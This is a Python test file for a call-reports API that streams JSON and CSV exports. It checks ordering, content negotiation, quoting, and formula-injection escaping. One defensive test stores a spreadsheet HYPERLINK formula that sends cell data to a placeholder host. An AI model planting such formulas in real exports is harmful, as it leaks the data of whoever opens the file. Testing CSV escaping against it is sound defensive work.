"""GET /call-reports: the plain JSON array, newest first, streamed; and the same query as CSV."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.callreports.conftest import (
    PATH,
    SEED_DAY,
    SEED_RECORDS,
    admin,
    cdr,
    error,
    load,
    records,
    report,
    seed_input,
)
from tests.conftest import TokenFactory

DAY = {"tenantId": "314", "start": "2024-03-01 00:00:00", "end": "2024-03-01 23:59:59"}
SEED_QUERY = {"tenantId": "314", **SEED_DAY}


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def as_cells(record: dict[str, Any]) -> list[str]:
    """A JSON record as the CSV writes it: null is an empty cell, numbers as JSON writes them."""
    return ["" if value is None else str(value) for value in record.values()]


def test_records_come_newest_first(client: TestClient, auth: TokenFactory) -> None:
    instants = ["2024-03-01T15:00:00Z", "2024-03-01T09:00:00Z", "2024-03-01T21:00:00Z"]
    load(client, admin(auth), [cdr(f"at-{i}", instant) for i, instant in enumerate(instants)])

    got = [(r["uniqueId"], r["time"]) for r in records(client, admin(auth), **DAY)]

    assert got == [
        ("at-2", "03/01/24 15:00:00"),
        ("at-0", "03/01/24 09:00:00"),
        ("at-1", "03/01/24 03:00:00"),
    ]


def test_an_empty_window_is_an_empty_array(client: TestClient, auth: TokenFactory) -> None:
    response = report(client, admin(auth), **DAY)

    assert response.status_code == 200
    assert response.text == "[]"


def test_the_answer_is_the_seeds_plain_array_not_an_envelope(
    client: TestClient, auth: TokenFactory
) -> None:
    load(client, admin(auth), seed_input())

    body = report(client, admin(auth), **SEED_QUERY).json()

    assert isinstance(body, list) and [list(r) for r in body] == [list(SEED_RECORDS[0])] * 2


def test_the_answer_is_streamed(client: TestClient, auth: TokenFactory) -> None:
    load(client, admin(auth), seed_input())

    with client.stream("GET", PATH, params=SEED_QUERY, headers=admin(auth)) as response:
        chunks = list(response.iter_bytes())

    assert response.status_code == 200
    assert "content-length" not in response.headers
    assert b"".join(chunks).startswith(b"[{")


def test_thousands_of_records_stream_complete_and_in_order(
    client: TestClient, auth: TokenFactory
) -> None:
    # More than one read batch, with many records sharing one time, so the answer must
    # resume exactly where each batch ended.
    batch = [
        cdr(f"bulk-{n:05d}", f"2024-03-01T{12 + n % 3:02d}:00:00Z", duration=n) for n in range(4500)
    ]
    assert load(client, admin(auth), batch) == {"created": 4500, "duplicates": 0}

    got = records(client, admin(auth), timezone="UTC", **DAY)

    assert len(got) == 4500
    assert {r["uniqueId"] for r in got} == {r["uniqueId"] for r in batch}
    hours = [r["time"] for r in got]
    assert hours == sorted(hours, reverse=True)
    assert hours[0] == "03/01/24 14:00:00" and hours[-1] == "03/01/24 12:00:00"
    ties = [r["id"] for r in got if r["time"] == "03/01/24 13:00:00"]
    assert ties == sorted(ties, reverse=True)


# CSV


@pytest.mark.parametrize(
    ("params", "headers"),
    [
        ({"format": "csv"}, {}),
        ({"format": "CSV"}, {}),
        ({}, {"Accept": "text/csv"}),
        ({}, {"Accept": "text/csv;q=0.9, application/json;q=0.5"}),
        ({"format": "csv"}, {"Accept": "application/json"}),
    ],
)
def test_csv_has_a_header_row_in_json_order_and_the_same_values(
    client: TestClient, auth: TokenFactory, params: dict[str, str], headers: dict[str, str]
) -> None:
    load(client, admin(auth), seed_input())
    as_json = records(client, admin(auth), **SEED_QUERY)

    response = client.get(PATH, params={**SEED_QUERY, **params}, headers={**admin(auth), **headers})

    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    header, *rows = parse_csv(response.text)
    assert header == list(as_json[0])
    assert rows == [as_cells(record) for record in as_json]
    assert rows[1][header.index("mos")] == "4.4" and rows[0][header.index("mos")] == "0.0"
    assert rows[0][header.index("spid")] == ""


@pytest.mark.parametrize(
    ("accept", "csv"),
    [
        ("text/csv", True),
        ("TEXT/CSV; charset=utf-8", True),
        ("text/csv;q=0.9, */*;q=0.1", True),
        ("application/json, text/csv", True),
        ("application/json, text/csv;q=0.5", False),
        ("text/csv;q=0", False),
        ("text/csv;q=nonsense", False),
        ("*/*", False),
        ("text/*", False),
        ("application/json", False),
        ("", False),
    ],
)
def test_an_accept_header_gets_csv_only_when_it_prefers_csv(
    client: TestClient, auth: TokenFactory, accept: str, csv: bool
) -> None:
    load(client, admin(auth), seed_input())
    response = client.get(PATH, params=SEED_QUERY, headers={**admin(auth), "Accept": accept})
    assert response.status_code == 200, response.text
    media = response.headers["content-type"]
    assert media.startswith("text/csv" if csv else "application/json"), media


def test_format_json_wins_over_an_accept_header_asking_for_csv(
    client: TestClient, auth: TokenFactory
) -> None:
    load(client, admin(auth), seed_input())

    response = client.get(
        PATH,
        params={**SEED_QUERY, "format": "json"},
        headers={**admin(auth), "Accept": "text/csv"},
    )

    assert response.headers["content-type"].startswith("application/json")
    assert len(response.json()) == 2


def test_csv_quotes_commas_and_quotes(client: TestClient, auth: TokenFactory) -> None:
    awkward = 'Smith, "Bob" Jr.'
    load(client, admin(auth), [cdr("awkward", "2024-03-01T12:00:00Z", callerIdName=awkward)])

    response = report(client, admin(auth), format="csv", **DAY)

    header, row = parse_csv(response.text)
    assert row[header.index("callerIdName")] == awkward
    assert row[header.index("uniqueId")] == "awkward"


# A tab or CR can start no text stored now (names refuse control characters), but could one
# stored before; the csv module's path that writes them is the one the others take too.
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_keeps_a_spreadsheet_from_running_a_text_as_a_formula(
    client: TestClient, auth: TokenFactory, start: str
) -> None:
    formula = f'{start}HYPERLINK("http://x.example/?"&A1,"click")'
    records = [
        cdr("plain", "2024-03-01T12:00:00Z", callerIdName="Bob", dialedNum="+13125550100"),
        cdr("formula", "2024-03-01T12:01:00Z", callerIdName=formula, dialedNum=start + "A1"),
    ]
    load(client, admin(auth), records)

    csv_text = report(client, admin(auth), format="csv", **DAY).text
    header, *rows = parse_csv(csv_text)
    as_json = report(client, admin(auth), **DAY).json()

    by_id = {row[header.index("uniqueId")]: row for row in rows}
    assert by_id["formula"][header.index("callerIdName")] == "'" + formula
    assert by_id["formula"][header.index("dialedNum")] == "'" + start + "A1"
    assert by_id["plain"][header.index("callerIdName")] == "Bob"
    # A number with its sign runs nothing in a spreadsheet: it is written as it is.
    assert by_id["plain"][header.index("dialedNum")] == "+13125550100"
    assert {r["callerIdName"] for r in as_json} == {"Bob", formula}  # JSON is as stored


def test_csv_of_an_empty_window_is_just_the_header(client: TestClient, auth: TokenFactory) -> None:
    response = report(client, admin(auth), format="csv", **DAY)

    assert parse_csv(response.text) == [[name for name in SEED_RECORDS[0]]]


def test_csv_streams_every_record_of_a_long_report(client: TestClient, auth: TokenFactory) -> None:
    batch = [cdr(f"row-{n:04d}", f"2024-03-01T10:{n // 60:02d}:{n % 60:02d}Z") for n in range(2500)]
    load(client, admin(auth), batch)

    header, *rows = parse_csv(report(client, admin(auth), format="csv", timezone="UTC", **DAY).text)

    unique = header.index("uniqueId")
    assert [row[unique] for row in rows] == [f"row-{n:04d}" for n in reversed(range(2500))]


def test_an_unknown_format_is_refused(client: TestClient, auth: TokenFactory) -> None:
    assert "format" in error(report(client, admin(auth), format="xml", **DAY), 400)


def test_errors_stay_json_when_csv_is_asked_for(client: TestClient, auth: TokenFactory) -> None:
    response = client.get(
        PATH,
        params={**DAY, "end": "2024-02-01 00:00:00", "format": "csv"},
        headers={**admin(auth), "Accept": "text/csv"},
    )

    assert "end is before start" in error(response, 400)
